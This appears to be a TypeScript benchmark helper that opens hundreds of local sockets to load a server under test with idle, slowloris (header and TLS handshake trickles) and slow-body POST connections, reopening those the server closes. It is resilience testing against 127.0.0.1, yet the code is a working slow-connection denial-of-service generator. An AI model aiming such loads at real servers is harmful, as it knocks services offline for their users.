/**
 * The attack bench's socket loads, run in a child process of bench/attack.ts
 * (`node --import tsx bench/attackers.ts`, over IPC) so that the attackers'
 * once-a-second write bursts (up to 1,000 sockets) and their connects never
 * run on the honest caller's event loop: in one process they delayed the
 * caller's own clock, which then counted the delay as the server's.
 *
 * With `reopen`, a socket the server closes is opened again at once.
 * Messages: the parent sends one `AttackPlan`; the child opens the sockets and
 * answers `{ started: opened }`; on `'stop'` it closes them, answers
 * `{ detail }` and exits.
 */
import { connect, type Socket } from 'node:net';

/** The Content-Length a slow body announces. */
export const SLOW_BODY_BYTES = 60_000;

export type AttackKind = 'idle' | 'slowloris' | 'slow-bodies';

export interface AttackPlan {
  kind: AttackKind;
  ports: number[];
  perPort: number;
  /** The TLS port, where slowloris trickles a handshake instead of a request head. */
  tlsPort: number;
  /** Open again a socket the server closes (slow bodies, as the attacker does). */
  reopen: boolean;
}

function open(port: number): Promise<Socket | null> {
  return new Promise((resolve) => {
    const s = connect(port, '127.0.0.1');
    s.on('error', () => resolve(null));
    s.once('connect', () => resolve(s));
  });
}

/** What each socket sends first, and then once a second. */
function bytes(plan: AttackPlan, port: number): { first: string | Buffer; drip: string | Buffer } {
  switch (plan.kind) {
    case 'idle':
      return { first: '', drip: '' };
    case 'slowloris':
      return port === plan.tlsPort
        ? { first: Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]), drip: Buffer.from([0x01]) }
        : { first: 'GET / HTTP/1.1\r\nHost: a\r\n', drip: 'X-a: b\r\n' };
    case 'slow-bodies':
      // Under every listener's body limit (the API's is 64 KiB), so the server must wait for it: a larger
      // Content-Length is refused at once (413), which turns this load into a reconnect flood instead.
      return { first: `POST /api/patients HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n{`, drip: ' ' };
  }
}

/** Opens the sockets (and, with `reopen`, again each one the server closes). */
async function attack(plan: AttackPlan): Promise<() => string> {
  const held = new Set<{ s: Socket; drip: string | Buffer }>();
  let opened = 0;
  let closedByServer = 0;
  let stopping = false;
  const one = async (port: number): Promise<void> => {
    const s = await open(port);
    if (!s) return;
    if (stopping) {
      s.destroy();
      return;
    }
    opened += 1;
    const { first, drip } = bytes(plan, port);
    const h = { s, drip };
    held.add(h);
    s.on('close', () => {
      held.delete(h);
      if (stopping) return;
      closedByServer += 1;
      if (plan.reopen) void one(port);
    });
    s.resume();
    if (first.length) s.write(first);
  };
  for (const port of plan.ports) {
    for (let i = 0; i < plan.perPort; i += 250) {
      await Promise.all(Array.from({ length: Math.min(250, plan.perPort - i) }, () => one(port)));
    }
  }
  const timer = setInterval(() => {
    for (const { s, drip } of held) if (drip.length && !s.destroyed) s.write(drip);
  }, 1_000);
  return () => {
    stopping = true;
    clearInterval(timer);
    for (const { s } of held) s.destroy();
    return `${opened} opened, ${closedByServer} closed by the server${plan.reopen ? ' and opened again' : ''}`;
  };
}

if (process.send) {
  let stop: (() => string) | null = null;
  process.on('message', (msg: AttackPlan | 'stop') => {
    if (msg === 'stop') {
      const detail = stop ? stop() : 'never started';
      process.send!({ detail }, () => process.exit(0));
      return;
    }
    void attack(msg).then((s) => {
      stop = s;
      process.send!({ started: true });
    });
  });
  // The parent gone (killed, crashed): do not keep the sockets open.
  process.on('disconnect', () => process.exit(0));
}
